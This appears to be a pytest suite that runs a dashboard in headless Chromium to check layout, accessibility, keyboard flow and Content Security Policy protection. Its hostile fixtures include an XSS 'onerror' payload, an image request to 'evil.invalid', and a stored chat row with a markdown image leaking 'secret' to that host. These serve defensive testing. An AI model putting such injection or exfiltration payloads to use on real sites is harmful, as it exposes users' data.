"""The dashboard in a real Chromium."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib.resources import files

import pytest

from potstill.server.web.routes.door import KINDS
from potstill.server.web.visit import HEADERS
from potstill.server.web.words import words_in
from tests.report.content import HOSTILE
from tests.server.web.chromium import AXE, DESK, PHONE, chromium
from tests.server.web.pages import all_pages
from tests.server.web.storing import store


@pytest.fixture(scope="module")
def browser():
    with chromium() as found:
        yield found


@pytest.fixture(scope="module")
def made_up():
    """All pages with hostile content, in both languages, under the headers of the dashboard."""
    pages = {
        f"/{language}/{name}": page for language in ("en", "ko") for name, page in all_pages(words_in(language)).items()
    }

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            name = self.path.rpartition("/")[2]
            is_static = self.path.startswith("/static/")
            content = files("potstill.server.web").joinpath("static", name).read_bytes() if is_static else b""
            self.send_response(200)
            for key, value in HEADERS.items():
                self.send_header(key, value)
            self.send_header("content-type", KINDS[name] if is_static else "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(content or pages.get(self.path, "").encode())

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", list(pages)
    server.shutdown()
    server.server_close()
    thread.join()


FIRST = ("logs", "completion", "distil", "job")


@pytest.mark.parametrize("language", ["en", pytest.param("ko", marks=pytest.mark.slow)])
def test_no_page_scrolls_sideways_on_a_phone_or_loads_from_elsewhere(browser, made_up, language):
    root, paths = made_up
    paths = [path for path in paths if path.startswith(f"/{language}/")]
    browser.requests()
    for path in paths:
        browser.open(root + path, width=PHONE)
        assert browser.overflow() <= 0, path
        assert browser.run("return typeof window.pwned") == "undefined"
    asked = browser.requests()
    assert len(asked) > len(paths)
    assert not [address for address in asked if not address.startswith((root, "data:"))]


@pytest.mark.skipif(not AXE.is_file(), reason="needs axe-core: npm install --prefix build/npm axe-core")
def test_axe_finds_nothing_on_the_main_pages(browser, made_up):
    root, _ = made_up
    assert not complaints(browser, root, [f"/en/{name}" for name in FIRST], DESK, "light")


@pytest.mark.slow
@pytest.mark.skipif(not AXE.is_file(), reason="needs axe-core: npm install --prefix build/npm axe-core")
@pytest.mark.parametrize(("width", "scheme"), [(DESK, "light"), (DESK, "dark"), (PHONE, "light"), (PHONE, "dark")])
def test_axe_finds_nothing_anywhere(browser, made_up, width, scheme):
    root, paths = made_up
    language = "/en/" if scheme == "light" else "/ko/"
    assert not complaints(browser, root, [path for path in paths if path.startswith(language)], width, scheme)


def complaints(browser, root, paths, width, scheme):
    found = {}
    for path in paths:
        browser.open(root + path, width=width, scheme=scheme)
        found[path] = browser.complaints()
    return {path: said for path, said in found.items() if said}


def test_the_sentences_of_hostile_rows_stay_sentences(browser, made_up):
    root, _ = made_up
    browser.open(root + "/en/completion")
    assert HOSTILE[0] in browser.one("main").text
    # The policy holds also against what a mistake of ours would let through.
    browser.run(
        "const i = new Image(); i.src = 'http://evil.invalid/x.png'; document.body.append(i);"
        "try { document.body.innerHTML = '<img src=x onerror=window.pwned=1>'; } catch {}"
    )
    refused = [entry["message"] for entry in browser.driver.get_log("browser")]
    assert browser.run("return typeof window.pwned") == "undefined"
    assert any("evil.invalid" in message and "Content Security Policy" in message for message in refused), refused


@pytest.fixture
def stored(server):
    """Thirty rows of a closed set, and a hostile one on top."""
    for i in range(30):
        text = f"{'red' if i % 2 else 'dull'} thing {i}"
        store(server, text, {"task": "colour"})
    words = [{"role": "user", "content": f"red {' '.join(HOSTILE[:2])} ![](http://evil.invalid/?q=secret)"}]
    store(server, words, {"task": HOSTILE[0]})
    return server


def test_from_the_door_to_a_running_distillation_by_keyboard(browser, stored):
    keys = pytest.importorskip("selenium.webdriver").Keys
    root = stored.base_url.removesuffix("/v1")
    browser.requests()
    browser.open(root + "/logs")
    assert browser.focused() == "key"
    browser.press(stored.api_key, keys.ENTER)
    browser.wait_for("table")
    assert browser.driver.current_url == root + "/logs"

    # Past the bar to the content, then to the newest row, which is hostile.
    browser.press(keys.TAB)
    assert browser.focused() == "Skip to content"
    browser.press(keys.ENTER, keys.TAB)
    assert browser.focused() == "Evaluate"
    browser.run("document.querySelector('tbody a').focus()")
    assert browser.run("return getComputedStyle(document.activeElement).outlineStyle") == "solid"
    browser.press(keys.ENTER)
    browser.wait_for(".turn.assistant")
    assert HOSTILE[0] in browser.one("main").text
    browser.driver.back()

    browser.wait_for("#metadata")
    browser.one("#metadata").send_keys("task=colour", keys.ENTER)
    browser.wait_for("a.main[href='/distil?metadata=task%3Dcolour']").send_keys(keys.ENTER)
    browser.wait_for("#suffix").send_keys("colours", keys.ENTER)
    browser.wait_for("#live[data-live]")
    job = browser.driver.current_url
    assert "/jobs/ftjob-" in job
    browser.run("window.confirm = () => true")
    browser.one("#do-cancel").send_keys(keys.ENTER)
    browser.wait_for("#live:not([data-live])")
    assert "cancelled" in browser.one("#live").text and browser.driver.current_url == job

    assert not [address for address in browser.requests() if not address.startswith((root, "data:"))]
    assert browser.run("return typeof window.pwned") == "undefined"
    browser.one("button[value=ko]").click()
    assert browser.wait_for("html[lang=ko]") and "취소됨" in browser.one("#live").text
    browser.all(".tools button")[-1].click()
    browser.wait_for("#key")
    browser.open(job)
    assert browser.all("#key") and not browser.all("#live")
